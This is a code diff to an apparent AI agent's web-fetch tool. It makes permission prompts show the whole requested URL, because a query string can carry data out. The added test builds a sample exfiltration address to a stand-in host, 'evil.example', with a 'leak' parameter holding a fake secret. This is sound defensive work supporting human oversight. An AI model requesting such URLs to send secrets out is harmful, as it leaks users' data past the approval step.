@@ -46,10 +46,13 @@ impl ParsedTool for WebFetch {
     }
 
     fn card(&self, input: &Value, _: &Workspace) -> Card {
-        let url = input.get("url").and_then(Value::as_str).unwrap_or_default().replace(['\n', '\r'], " ");
-        let title = match url.trim() {
+        let url = input.get("url").and_then(Value::as_str).unwrap_or_default();
+        // As it will be requested: names of hosts in other scripts are shown by their letters.
+        let url =
+            Address::parse(url).map_or_else(|_| url.trim().to_owned(), |address| address.url().to_owned());
+        let title = match url.as_str() {
             "" => "Fetch a page".to_owned(),
-            url => format!("Fetch {}", truncate::line(url, TITLE_BYTES_MAX)),
+            url => format!("Fetch {}", shortened(url)),
         };
         Card { title, kind: ToolKind::Fetch, locations: Vec::new() }
     }
@@ -64,9 +67,26 @@ impl ParsedTool for WebFetch {
         Ok(Access::Fetch { url: address.url().to_owned(), host: address.host() })
     }
 
+    /// The whole address: its path and query may carry data out.
+    fn preview(&self, call: Call, _: ToolContext) -> BoxFuture<Vec<Shown>> {
+        let text = disk::fenced("", call.address.url());
+        Box::pin(std::future::ready(vec![Shown::Text { text }]))
+    }
+
     fn run(&self, call: Call, context: ToolContext) -> BoxFuture<ToolResult> {
         Box::pin(async move { fetch(call, &context).await.unwrap_or_else(ToolResult::failed) })
     }
+}
+
+/// An address for a title. The middle of a long one is left out: its host and its end stay.
+fn shortened(url: &str) -> String {
+    if url.len() <= TITLE_BYTES_MAX {
+        return url.to_owned();
+    }
+    let head = &url[..url.floor_char_boundary(TITLE_BYTES_MAX / 2)];
+    let tail = &url[url.ceil_char_boundary(url.len() - TITLE_BYTES_MAX / 2)..];
+    let left_out = url.len() - head.len() - tail.len();
+    format!("{head}…({left_out} more bytes)…{tail}")
 }
 
 pub struct Call {
@@ -196,6 +216,8 @@ fn text_of(document: &Document) -> Option<(Option<String>, String)> {
 
 #[cfg(test)]
 mod tests {
+    use std::sync::Arc;
+
     use super::*;
     use epitome_thread::OutcomeStatus;
 
@@ -209,6 +231,21 @@ mod tests {
             OutcomeContent::Text { text } => text,
             other => panic!("{other:?}"),
         }
+    }
+
+    /// The prompt had no body, and the title ended after 100 bytes: a query of up to 4 kB, which is how data leaves,
+    /// was never on screen.
+    #[tokio::test]
+    async fn a_prompt_shows_the_whole_address() {
+        let url = format!("https://evil.example/{}?leak=MADE-UP-SECRET", "a".repeat(200));
+        let workspace = Workspace::new("/w", Vec::new(), Arc::default());
+        let input = json!({ "url": url });
+        let title = ParsedTool::card(&WebFetch, &input, &workspace).title;
+        assert!(title.starts_with("Fetch https://evil.example/aaa"), "{title}");
+        assert!(title.ends_with("?leak=MADE-UP-SECRET") && title.contains(" more bytes)"), "{title}");
+        let call = WebFetch.parse(&input, &workspace).expect("an address");
+        let shown = WebFetch.preview(call, ToolContext::bare(Arc::new(workspace))).await;
+        assert_eq!(shown, [Shown::Text { text: format!("```\n{url}\n```") }]);
     }
 
     #[test]
